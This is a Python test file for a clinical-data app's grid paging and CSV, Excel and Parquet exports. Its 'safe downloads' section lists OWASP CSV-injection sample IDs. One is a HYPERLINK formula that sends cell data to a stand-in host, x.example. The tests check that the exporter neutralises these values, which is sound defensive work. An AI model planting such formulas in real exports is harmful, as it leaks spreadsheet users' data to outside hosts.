"""Server-side grid blocks and export files as plain functions (small hand-made frames)."""

from __future__ import annotations

import io
import json
import zipfile

import pandas as pd
import pyarrow.parquet as pq

from components.downloads import (
    PARQUET_KEY,
    csv_zip_bytes,
    excel_bytes,
    export_dictionary,
    parquet_bytes,
    provenance_record,
)
from components.grid import MAX_BLOCK, column_defs, rows_block


def _frame() -> pd.DataFrame:
    return pd.DataFrame({
        "patient_id": pd.array(["A", "B", "C", "D", "E"], dtype="str"),
        "age": [50.0, None, 70.0, 60.0, 55.0],
        "sex": pd.Categorical(["male", "female", "male", None, "female"],
                              categories=["female", "male"]),
        "diabetes": pd.array([True, False, None, True, False], dtype="boolean"),
    })


def test_rows_block_sorts_and_pages_without_mutating_and_ignores_grid_filters():
    frame = _frame()
    before = frame.copy()
    cols = ["patient_id", "age", "sex", "diabetes"]
    out = rows_block(frame, cols, {"startRow": 0, "endRow": 2,
                                   "sortModel": [{"colId": "age", "sort": "desc"}],
                                   "filterModel": {}})
    # by hand: ages 70 (C), 60 (D), 55, 50, missing last
    assert [r["patient_id"] for r in out["rowData"]] == ["C", "D"]
    assert out["rowCount"] == 5
    assert out["rowData"][1]["sex"] is None and out["rowData"][0]["diabetes"] is None
    # rows are chosen in the filter panel only: a grid filter model changes nothing,
    # so the count shown, the link and the download hold the same patients
    out = rows_block(frame, cols, {"startRow": 0, "endRow": 10, "filterModel": {
        "age": {"filterType": "number", "type": "greaterThanOrEqual", "filter": 55},
        "diabetes": {"filterType": "text", "type": "equals", "filter": "yes"}}})
    assert [r["patient_id"] for r in out["rowData"]] == ["A", "B", "C", "D", "E"]
    assert out["rowCount"] == 5
    json.dumps(out)  # JSON-safe (no NA, no numpy scalars)
    pd.testing.assert_frame_equal(frame, before)


def test_rows_block_caps_the_block_size():
    frame = pd.DataFrame({"patient_id": [f"P{i}" for i in range(2000)],
                          "age": range(2000)})
    out = rows_block(frame, ["patient_id", "age"], {"startRow": 0, "endRow": 2000})
    assert len(out["rowData"]) == MAX_BLOCK and out["rowCount"] == 2000


def test_column_defs_use_dictionary_labels():
    defs = {d["field"]: d for d in column_defs(["age", "sex", "unknown"])}
    assert defs["age"]["headerName"] == "Age (years)"
    assert defs["age"]["filter"] is False and defs["sex"]["filter"] is False
    assert defs["unknown"]["headerName"] == "unknown"


def _record():
    return provenance_record(source="file.csv", fingerprint="abc123", n=5,
                             filters=["Age 50-70 years"], query="age=50-70",
                             simulated_label="Simulated")


def test_exports_round_trip_rows_and_provenance():
    frame = _frame()
    before = frame.copy()
    rec = _record()
    with zipfile.ZipFile(io.BytesIO(csv_zip_bytes(frame, rec))) as zf:
        back = pd.read_csv(zf.open("data.csv"))
        text = zf.read("provenance.txt").decode()
    assert list(back["patient_id"]) == ["A", "B", "C", "D", "E"]
    assert back["age"].isna().sum() == 1
    assert "dataset_fingerprint: abc123" in text and "filters: Age 50-70 years" in text
    sheets = pd.read_excel(io.BytesIO(excel_bytes({"data": frame}, rec)), sheet_name=None)
    assert list(sheets) == ["data", "provenance"] and len(sheets["data"]) == 5
    table = pq.read_table(io.BytesIO(parquet_bytes(frame, rec)))
    assert table.num_rows == 5
    assert json.loads(table.schema.metadata[PARQUET_KEY])["filter_query"] == "age=50-70"
    pd.testing.assert_frame_equal(frame, before)


# --------------------------------------------------------------------------- safe downloads
#: Patient IDs a spreadsheet would run as formulas (OWASP "CSV Injection" examples),
#: plus a negative number and a plain ID that must stay as they are.
HOSTILE_IDS = ['=HYPERLINK("http://x.example/?d="&A1,"open")', "+1+2", "-2+3", "@SUM(A1)",
               "\tTAB", "\rCR", "P0001"]


def _hostile_frame() -> pd.DataFrame:
    n = len(HOSTILE_IDS)
    return pd.DataFrame({
        "patient_id": pd.array(HOSTILE_IDS, dtype="str"),
        "pav_baseline": [19.01, 32.29, 2.8100000000000023, 40.0, 50.5, 33.3, 20.0],
        "delta_pav": [0.26000000000000156, -1.5, 2.8100000000000023, 0.0, None, 1.0, -0.1],
        "diabetes": pd.array([True, False, None, True, False, True, False], dtype="boolean"),
        "trial": pd.Categorical(["±A"] * n),
    })


def test_csv_neutralises_formula_cells_and_says_so():
    rec = _record()
    with zipfile.ZipFile(io.BytesIO(csv_zip_bytes(_hostile_frame(), rec))) as zf:
        back = pd.read_csv(zf.open("data.csv"), dtype={"patient_id": str}, keep_default_na=False)
        prov = zf.read("provenance.txt").decode("utf-8-sig")
    # OWASP CSV Injection: a leading apostrophe; the plain ID is unchanged
    assert list(back["patient_id"]) == ["'" + i for i in HOSTILE_IDS[:-1]] + ["P0001"]
    assert "apostrophe" in prov


def test_excel_stores_formula_looking_ids_as_text():
    from openpyxl import load_workbook

    data = excel_bytes({"data": _hostile_frame()}, _record())
    ws = load_workbook(io.BytesIO(data))["data"]
    cells = [ws.cell(row=r, column=1) for r in range(2, len(HOSTILE_IDS) + 2)]
    assert [c.value for c in cells] == HOSTILE_IDS     # the original text, not a formula
    assert all(c.data_type == "s" for c in cells)
    back = pd.read_excel(io.BytesIO(data), sheet_name="data", dtype={"patient_id": str})
    assert list(back["patient_id"]) == HOSTILE_IDS


def test_booleans_are_0_1_and_floats_rounded_to_the_dictionary():
    with zipfile.ZipFile(io.BytesIO(csv_zip_bytes(_hostile_frame(), _record()))) as zf:
        text = zf.read("data.csv").decode("utf-8-sig")
    rows = text.splitlines()
    assert rows[0] == "patient_id,pav_baseline,delta_pav,diabetes,trial"
    # schema: pav_baseline and delta_pav keep 2 decimals; diabetes True -> 1, <NA> -> empty
    assert rows[1].endswith(",19.01,0.26,1,±A")
    assert rows[3].endswith(",2.81,2.81,,±A")
    assert "True" not in text and "False" not in text and "0000000" not in text


def test_csv_starts_with_a_bom_unless_turned_off(monkeypatch):
    from analysis import settings as settings_mod

    with zipfile.ZipFile(io.BytesIO(csv_zip_bytes(_hostile_frame(), _record()))) as zf:
        raw = zf.read("data.csv")
    assert raw.startswith(b"\xef\xbb\xbf") and "±".encode() in raw
    monkeypatch.setattr(settings_mod, "_current",
                        settings_mod.current().with_overrides(csv_bom=False))
    with zipfile.ZipFile(io.BytesIO(csv_zip_bytes(_hostile_frame(), _record()))) as zf:
        assert not zf.read("data.csv").startswith(b"\xef\xbb\xbf")


def test_dictionary_of_a_download_labels_the_0_1_codes():
    data = csv_zip_bytes(_hostile_frame(), _record(), export_dictionary())
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        d = pd.read_csv(zf.open("dictionary.csv"), encoding="utf-8-sig").set_index("name")
    assert d.loc["diabetes", "codes"] == "1 = yes, 0 = no"
    assert int(d.loc["pav_baseline", "decimals"]) == 2
